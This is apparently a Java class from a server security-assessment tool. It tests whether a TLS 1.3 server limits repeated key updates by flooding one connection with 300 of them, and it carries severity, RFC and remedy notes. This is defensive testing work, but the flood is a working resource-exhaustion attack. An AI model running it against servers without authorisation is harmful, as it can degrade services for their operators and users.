package dev.countersign.assessment;

import java.io.IOException;
import java.security.GeneralSecurityException;
import javax.net.ssl.SSLSocket;

/** Changes its keys again and again, and has the target do the same, without a byte of data between. */
final class KeyUpdates extends Abuse {
  private static final int BATCHES = 30;
  private static final int PER_BATCH = 10;
  private static final String TLS_1_3 = "TLSv1.3";

  KeyUpdates() {
    super(
        About.of("key-updates", Group.TRANSPORT, Severity.MEDIUM)
            .tries(BATCHES * PER_BATCH
                + " key updates on one connection, each of which asks for one in return.")
            .safe("The connection is ended long before all were sent.")
            .source("RFC 8446 section 4.6.3; CWE-400")
            .remedy("Bound the records of a connection that bring no data; BoringSSL takes 32 key"
                + " updates in a row, the JDK's TLS any number."),
        Reach.TLS,
        false);
  }

  @Override
  boolean isToBeBrokenOff() {
    return true;
  }

  @Override
  Outcome misbehave(Attack attack)
      throws IOException, GeneralSecurityException, InterruptedException, CannotRunException {
    try (RawHttp2 connection = attack.connect()) {
      if (!(connection.socket() instanceof SSLSocket socket)
          || !socket.getSession().getProtocol().equals(TLS_1_3)) {
        throw new CannotRunException("there are no key updates before TLS 1.3");
      }
      connection.socket().setSoTimeout(2_000);
      attack.call(connection);
      return Flood.of(connection, BATCHES, (to, number) -> {
            for (int i = 0; i < PER_BATCH; i++) {
              // Once a connection is established, this is what the JDK sends for it.
              socket.startHandshake();
            }
          })
          .mustBeCut(BATCHES * PER_BATCH + " key updates");
    }
  }
}
